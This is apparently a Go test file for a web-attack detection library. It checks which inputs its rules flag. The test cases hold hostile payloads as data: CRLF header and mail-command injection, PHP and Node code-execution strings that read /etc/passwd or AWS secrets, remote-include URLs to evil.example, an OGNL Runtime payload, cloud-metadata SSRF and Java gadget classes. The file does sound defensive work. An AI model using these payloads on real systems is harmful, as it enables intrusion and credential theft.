package detect

import "testing"

// TestPlusIsSpace: in a URL-encoded string (one with a %XX escape) a '+'
// reads as a space, as a query decoder reads it; a '+' decoded from %2B,
// or in a string without an escape, stays a '+'.
func TestPlusIsSpace(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"%0D%0ARCPT+TO%3A%3Cv%40x%3E", "\r\nrcpt to:<v@x>"},
		{"%27%3B+return+true%3B", "'; return true;"},
		{"1+2", "1+2"},
		{"%2B1", "+1"},
		{"%252B1+x", "+1 x"},
		{"50%+off", "50%+off"}, // no escape: not URL-encoded
		{"a%zz+b", "a%zz+b"},
	} {
		t.Run(c.in, func(t *testing.T) {
			if got := Normalize(c.in); got != c.want {
				t.Errorf("Normalize(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestCRLFInjection(t *testing.T) {
	d, err := NewBuiltin(CRLF)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct {
		in   string
		rule string // "" : benign
	}{
		{"嘊嘍X-Forwarded-For: 127.0.0.1", "crlf.header"},
		{"%c4%8a%c4%8dLocation: //evil.example", "crlf.header"},
		{"a%F0%9F%98%8ASet-Cookie: a=b", "crlf.header"}, // U+1F60A: low byte 0x0A
		{"%0d%0a%20X-Forwarded-Host:%20evil", "crlf.header"},
		{"x\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "crlf.mail_command"},
		{"\r\n.a LOGIN u p", "crlf.mail_command"},
		{"x\r\nEXPN staff", "crlf.mail_command"},
		{"Follow-up: call Bob\nX marks the spot", ""},
		{"menu\n1. data\n2. quit", ""},
		{"Ċity Člub", ""},
		{"report\n- item: one\n- item: two", ""},
	})
}

func TestPathFilesAndInclusion(t *testing.T) {
	d, err := NewBuiltin(PathTraversal)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct{ in, rule string }{
		{"/.git/objects/ab/cdef", "path.sensitive_file"},
		{"/x/.htaccess", "path.sensitive_file"},
		{".env.local", "path.sensitive_file"},
		{"/.env/", ""},         // a directory named .env: no file
		{"config/.envoy", ""},  // another name
		{"/.well-known/x", ""}, // a public path
		{"PHP://Memory", "path.php_wrapper"},
		{"ssh2.exec://u:p@h/id", "path.php_wrapper"},
		{"data://text/plain,x", "path.php_wrapper"},
		{"data:text/plain,x", ""}, // a browser data: URL
		{"include_once(\"https://evil.example/s\")", "path.remote_include"},
		{"require 'php://input'", "path.remote_include"},
		{"http://evil.example/dir/shell.txt?", "path.remote_include"},
		{"ftp://198.51.100.7/x.sh", "path.remote_include"},
		{"http://evil.example/dir/?", ""},      // no file name
		{"http://evil.example/shell.php?", ""}, // a page, not a data file
		{"see http://evil.example/shell.txt? now", ""},
	})
}

func TestPHPInjection(t *testing.T) {
	d, err := NewBuiltin(CmdI)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct{ in, rule string }{
		{`"passthru" ("ls");`, "cmdi.code_exec"},
		{`(\system)('id');`, "cmdi.code_exec"},
		{"str_rot13('flfgrz')('id');", "cmdi.code_exec"},
		{"assert(str_rot13('cucvasb()'));", "cmdi.code_exec"},
		{`ini_set("auto_prepend_file","php://input");`, "cmdi.code_exec"},
		{"highlight_file($_GET['f']);", "cmdi.code_exec"},
		{"<?= $x ?>", "cmdi.php"},
		{`<!--#if expr="$a = b" -->`, "cmdi.ssi"},
		{"join('a')(b)", ""},
		{"$.ajax({url: x}).done(function(r){})", ""},
		{`"hello"(world)`, ""},
		{"extract the archive (zip)", ""},
		{"$GLOBALS are bad", ""},
		{"price: $_5 off", ""},
	})
}

func TestJavaBindingAndOGNL(t *testing.T) {
	d, err := NewBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		in   string
		kind Kind
		rule string
	}{
		{"class.module.classLoader.resources.context.parent.pipeline.first.suffix", Key, "proto.class_loader"},
		{"class[module][classLoader][URLs][0]", Key, "proto.class_loader"},
		{"Class.ClassLoader.DefaultAssertionStatus", Key, "proto.class_loader"},
		{"user.class.name", Key, ""},
		{"module.classLoader", Key, ""},
		{"%{(#a=@java.lang.Runtime@getRuntime())}", Value, "ssti.ognl"},
		{"@java.util.Base64@getDecoder()", Value, "ssti.ognl"},
		{"contact: anna@mail.example.org@work (home)", Value, ""},
	} {
		t.Run(c.in, func(t *testing.T) {
			var rule string
			for _, m := range d.Scan(nil, c.in, Input{Kind: c.kind}) {
				if m.Category == ProtoPollution || m.Category == SSTI {
					rule = m.Rule
				}
			}
			if rule != c.rule {
				t.Errorf("Scan(%q, %v) = %q, want %q", c.in, c.kind, rule, c.rule)
			}
		})
	}
}

func TestNodeInjection(t *testing.T) {
	d, err := NewBuiltin(CmdI)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct{ in, rule string }{
		{"global.process.env.AWS_SECRET_ACCESS_KEY)", "cmdi.code_exec"},
		{`require("node:fs").readFileSync("/etc/passwd")`, "cmdi.code_exec"},
		{"process.kill(1)", "cmdi.code_exec"},
		{"module.constructor._load('x')", "cmdi.code_exec"},
		{"const x = require('fs')", ""},
		{"data.readFileSync is a method name", ""},
		{"set process.env.NODE_ENV (see docs)", "cmdi.code_exec"}, // a read by name: flagged as CRS does
	})
}

func TestSchemeRelativeURL(t *testing.T) {
	d, err := NewBuiltin(SSRF)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct{ in, rule string }{
		{"//127.0.0.1/admin", "ssrf.loopback"},
		{"//[::1]/x", "ssrf.loopback"},
		{`"//169.254.169.254/latest"`, "ssrf.metadata"},
		{"//example.org/x", ""},
		{"/// triple", ""},
		{"see //127.0.0.1 in the doc", ""}, // not a whole value
	})
}

func TestJavaGadgetClass(t *testing.T) {
	d, err := NewBuiltin(Deserialization)
	if err != nil {
		t.Fatal(err)
	}
	checkRules(t, d, []struct{ in, rule string }{
		{`{"@type":"com.sun.rowset.JdbcRowSetImpl"}`, "deser.java_class"},
		{"java.lang.reflect.Method", "deser.java_class"},
		{"T(java.lang.ProcessBuilder)", "deser.java_class"},
		{"Java.Lang.Runtime", "deser.java_class"},
		{"java.lang.Runtimes", ""},
		{"the org.apache.commons.lang3 library", ""},
	})
}

// checkRules scans each case's input and checks the rule of the last
// match ("" when nothing matches).
func checkRules(t *testing.T, d *Detector, cases []struct{ in, rule string }) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			var rule string
			for _, m := range d.Scan(nil, c.in, Input{}) {
				rule = m.Rule
			}
			if rule != c.rule {
				t.Errorf("Scan(%q) = %q, want %q", c.in, rule, c.rule)
			}
		})
	}
}
